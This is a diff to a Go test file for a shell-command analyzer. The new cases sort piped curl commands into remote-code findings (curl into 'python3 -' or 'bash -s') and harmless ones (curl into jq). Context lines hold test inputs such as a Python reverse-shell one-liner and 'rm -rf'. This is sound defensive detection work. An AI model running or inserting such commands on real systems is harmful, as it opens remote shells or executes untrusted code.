@@ -54,6 +54,7 @@ func TestAnalyzeFindsEveryCommand(t *testing.T) {
 		{"env -S splits a command line", `env -S "rm -rf x"`, []string{"env", "env -c>rm"}},
 		{"a bare assignment is a command without a program", "A=1", []string{""}},
 		{"export records its assignments", "export A=1", []string{"export"}},
+		{"the [ command is a program, not a glob", "[ -f go.mod ] && go build", []string{"[", "go"}},
 		{"commands inside if and for", "if true; then rm a; fi; for f in *; do rm $f; done", []string{"true", "rm", "rm"}},
 	}
 	for _, tt := range tests {
@@ -99,6 +100,11 @@ func TestAnalyzeFindings(t *testing.T) {
 		{"python socket with dup2", `python3 -c 'import socket,os;s=socket.socket();s.connect(("x",1));os.dup2(s.fileno(),0)'`, shell.ReverseShell},
 		{"a shell string within the nesting limit is no finding", `bash -c "ls"`, ""},
 		{"curl saving to a file is not remote code", "curl -o x.tar.gz https://x.example/a.tgz", ""},
+		{"curl into python -m json.tool is not remote code", "curl -s https://api.example | python3 -m json.tool", ""},
+		{"curl into jq is not remote code", "curl -s https://api.example | jq .", ""},
+		{"curl into a shell running a script file is not remote code", "curl -s x | bash ./process.sh", ""},
+		{"curl into python - is remote code", "curl -s x | python3 -", shell.RemoteCode},
+		{"curl into bash -s is remote code", "curl -s x | bash -s -- --yes", shell.RemoteCode},
 		{"a recursive function without pipes or background is not a fork bomb", "f() { f; }", ""},
 		{"nc without -e is not a reverse shell", "nc -z localhost 80", ""},
 		{"python without sockets is not a reverse shell", `python3 -c 'print(1)'`, ""},
